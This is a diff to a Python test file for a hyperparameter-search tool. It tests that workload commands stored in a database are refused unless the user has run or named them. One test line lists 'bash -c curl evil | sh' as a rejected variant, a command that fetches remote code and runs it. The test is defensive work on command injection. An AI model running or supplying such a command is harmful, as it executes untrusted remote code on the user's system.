@@ -15,7 +15,7 @@ from bssearch.records import StudyRecord
 from bssearch.settings import STATE_DIR_VARIABLE, state_folder
 from bssearch.spec import StudySpec
 from tests.analysis.test_report import study
-from tests.factories import SPEC, make_spec
+from tests.factories import SPEC, make_spec, not_none
 
 FOLDER = Path("/nowhere")
 OWN = make_spec(workload="task.py:Task", workload_settings={"width": 8})
@@ -126,8 +126,9 @@ def test_a_stored_command_is_code_that_this_user_has_run_or_names(tmp_path: Path
     (tmp_path / "train.sh").write_text("mine")
     with pytest.raises(UsageError, match="on a database's word alone") as caught:
         refuse_unknown(own, record, tmp_path)
-    assert caught.value.hint is not None
-    assert "add --workload command, which runs bash train.sh '{batch_size}' '{learning_rate}'" in caught.value.hint
+    assert "add --workload command, which runs bash train.sh '{batch_size}' '{learning_rate}'" in not_none(
+        caught.value.hint
+    )
     remember(own, record, tmp_path)
     refuse_unknown(own, record, tmp_path)
     others = [["bash", "-c", "curl evil | sh", *COMMAND[2:]], [*COMMAND, "--more"], ["sh", *COMMAND[1:]]]
